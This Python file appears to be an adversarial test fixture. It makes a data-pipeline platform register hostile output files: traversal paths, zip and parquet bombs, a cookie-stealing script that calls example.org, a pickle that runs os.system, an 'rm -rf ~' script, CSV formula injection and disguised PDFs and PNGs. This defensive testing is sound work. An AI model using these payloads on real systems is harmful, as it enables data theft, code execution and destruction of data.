"""Outputs that are no honest files: climbing paths, links, pipes, giants, and what runs when opened."""

import base64
import json
import os
import pickle
import socket
import struct
import zipfile
import zlib
from functools import partial
from pathlib import Path

import dagster as dg

from intruder import findings
from phems.contract.runtime import current_runtime
from phems.project import outputs

AREA = Path("/artifacts")


def _register(path: str) -> str:
    runtime = current_runtime()
    assert runtime is not None
    return runtime.outputs.register(path).sha256


@dg.op(config_schema={"other_run": str})
def register_strange_paths(context: dg.OpExecutionContext) -> None:
    """Registers, by hand, everything that is no plain file of this run."""
    mine = f"outputs/{context.run_id}"
    folder = AREA / mine
    folder.mkdir(parents=True)
    (folder / "honest.csv").write_text("a\n1\n")
    (folder / "link.csv").symlink_to("/data/weather.csv")
    (folder / "link_up.csv").symlink_to("../../told")
    (folder / "linked").symlink_to("/data")
    (folder / "loop.csv").symlink_to("loop.csv")
    (folder / "folder.csv").mkdir()
    os.mkfifo(folder / "pipe.csv")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(folder / "socket.csv"))
    (folder / "unreadable.csv").write_text("a")
    (AREA / "outside.csv").write_text("a\n1\n")
    other = context.op_config["other_run"]
    paths = {
        "honest": f"{mine}/honest.csv",
        "link": f"{mine}/link.csv",
        "link upwards": f"{mine}/link_up.csv",
        "folder link": f"{mine}/linked/weather.csv",
        "loop": f"{mine}/loop.csv",
        "folder": f"{mine}/folder.csv",
        "pipe": f"{mine}/pipe.csv",
        "socket": f"{mine}/socket.csv",
        "absent": f"{mine}/absent.csv",
        "climbing": f"{mine}/../../outside.csv",
        "climbing out": f"{mine}/../../../ward/outputs/x.csv",
        "absolute": "/etc/passwd",
        "absolute own": f"/artifacts/{mine}/honest.csv",
        "another run's": f"outputs/{other}/honest.csv",
        "not an output": "outside.csv",
        "empty": "",
        "dot": f"{mine}/./honest.csv",
        "backslash": f"{mine}\\..\\x.csv",
        "nul": f"{mine}/honest.csv\0.png",
        "line break": f"{mine}/a\nb.csv",
        "right to left": f"{mine}/\u202evsc.exe",
        "long": f"{mine}/{'x' * 300}.csv",
    }
    findings.run({name: partial(_register, path) for name, path in paths.items()})


@dg.op
def write_giant(context: dg.OpExecutionContext) -> None:
    """Two gigabytes without a disk to hold them."""
    folder = AREA / f"outputs/{context.run_id}"
    folder.mkdir(parents=True)

    def sparse() -> int:
        with (folder / "giant.csv").open("wb") as file:
            return file.truncate(2 << 30)

    def plain() -> int:
        with (folder / "large.csv").open("wb") as file:
            for _ in range(64):
                file.write(b"x" * (1 << 20))
        return (folder / "large.csv").stat().st_size

    findings.run({"sparse": sparse, "plain": plain})


@dg.op
def write_dangerous_files(context: dg.OpExecutionContext) -> None:
    """Files that would do something when opened. They may lie here; they may not leave."""
    folder = AREA / f"outputs/{context.run_id}"
    folder.mkdir(parents=True)
    bomb = folder / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros", b"\0" * (6 << 20))
    script = b"<script>fetch('http://example.org/?' + document.cookie)</script>"
    files = {
        "page.html": b"<!doctype html>" + script,
        "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>",
        "code.js": b"alert(1)",
        "model.pkl": b"\x80\x04\x95cos\nsystem\n",
        "sheet.xlsm": bomb.read_bytes(),
        "program.sh": b"#!/bin/sh\nrm -rf ~\n",
        "page.csv": b"a,b\n1," + script + b"\n",
        "page.txt": b"text\n" * 2000 + b"<ScRiPt>x</ScRiPt>",
        "bomb.csv": bomb.read_bytes(),
        "model.json": b"\x80\x04\x95cos\nsystem\n",
        "page.png": b"<html>" + script,
        "half.png": b"\x89PNG\r\n\x1a\n" + script,
        "active.pdf": b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF",
        "table.parquet": b"PAR1" + script,
        "binary.csv": b"a,b\n\x00\x01\x02",
    }
    for name, content in files.items():
        (folder / name).write_bytes(content)
    names = [*files, "bomb.zip"]
    found = {}
    for name in names:
        found[name] = _register(f"outputs/{context.run_id}/{name}")
    findings.tell(found)


class _Runs:
    """A pickle of it runs a command when it is loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch /tmp/was-here",)


def _png(*chunks: tuple[bytes, bytes]) -> bytes:
    body = [
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


def _picture(width: int, *beside: tuple[bytes, bytes]) -> bytes:
    header = struct.pack(">IIBBBBB", width, width, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * (width + 1) * min(width, 100), 9)
    return _png((b"IHDR", header), *beside, (b"IDAT", pixels), (b"IEND", b""))


@dg.op
def write_disguised_files(context: dg.OpExecutionContext) -> None:
    """Files that are what their names say to whoever looks at their first and last bytes."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    folder = AREA / f"outputs/{context.run_id}"
    folder.mkdir(parents=True)
    script = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>")
    coded = base64.b64encode(pickle.dumps(_Runs(), 4)).decode()
    files = {
        "pickle.txt": pickle.dumps(_Runs(), 0),
        "coded.json": f'{{"model": "{coded}"}}'.encode(),
        "spelt.pdf": b"%PDF-1.7\n1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj\n%%EOF",
        "packed.pdf": b"%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
        + script
        + b"\nendstream endobj\n%%EOF",
        "formula.csv": b"ward,n\n\"=cmd|' /C calc'!A0\",1\n",
        "deep.json": b"[" * 500_000 + b"]" * 500_000,
        "wide.png": _picture(100_000),
        "texts.png": _picture(50, (b"tEXt", b"Comment\0patient 7 of ward 3")),
        "two.png": _picture(50) + b"PK\x05\x06" + b"\0" * 18 + _picture(50)[-12:],
        "ragged.csv": b"a,b\n1,2\n1,2,3\n",
    }
    for name, content in files.items():
        (folder / name).write_bytes(content)
    bomb = pa.table({"x": pa.array(["A" * (1 << 20)] * 64)})
    with pq.ParquetWriter(folder / "bomb.parquet", bomb.schema, compression="zstd") as writer:
        for _ in range(20):
            writer.write_table(bomb)
    names = [*files, "bomb.parquet"]
    findings.tell({name: _register(f"outputs/{context.run_id}/{name}") for name in names})


@dg.op
def swap_through_a_link(context: dg.OpExecutionContext) -> None:
    """Registers an honest file that has a second name, and writes through that one afterwards."""
    folder = AREA / f"outputs/{context.run_id}"
    folder.mkdir(parents=True)
    (folder / "table.csv").write_text("a\n1\n")
    os.link(folder / "table.csv", AREA / f"second-name-{context.run_id}.csv")
    sha256 = _register(f"outputs/{context.run_id}/table.csv")
    (AREA / f"second-name-{context.run_id}.csv").write_text("b\n2\n")
    findings.tell({"sha256": sha256})


@dg.op(config_schema={"tables": str})
def write_declared_tables(context: dg.OpExecutionContext) -> None:
    """Tables as an honest project writes them: name to [text, declaration or null], as JSON."""
    for name, (text, declaration) in json.loads(context.op_config["tables"]).items():
        outputs.write_text(context, name, text)
        if declaration:
            outputs.declare(context, name, declaration)


@dg.job
def write_declared_tables_job() -> None:
    """See the op."""
    write_declared_tables()


@dg.job
def register_strange_paths_job() -> None:
    """See the op."""
    register_strange_paths()


@dg.job
def write_giant_job() -> None:
    """See the op."""
    write_giant()


@dg.job
def write_dangerous_files_job() -> None:
    """See the op."""
    write_dangerous_files()


@dg.job
def write_disguised_files_job() -> None:
    """See the op."""
    write_disguised_files()


@dg.job
def swap_through_a_link_job() -> None:
    """See the op."""
    swap_through_a_link()


JOBS = [
    register_strange_paths_job,
    write_giant_job,
    write_dangerous_files_job,
    write_disguised_files_job,
    write_declared_tables_job,
    swap_through_a_link_job,
]
